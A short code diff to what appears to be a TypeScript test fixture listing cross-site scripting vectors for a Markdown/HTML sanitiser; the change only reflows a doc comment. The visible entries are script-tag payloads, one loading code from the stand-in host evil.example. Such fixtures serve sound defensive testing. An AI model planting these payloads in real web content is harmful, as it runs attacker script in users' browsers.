@@ -1,4 +1,7 @@
-/** Attempts to run code from Markdown or its HTML, written for this block. Each calls `alert` in a different way. */
+/**
+ * Attempts to run code from Markdown or its HTML. Each calls `alert` in a different way. All were written for this
+ * block.
+ */
 export const VECTORS: readonly string[] = [
 	'<script>alert(1)</script>',
 	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
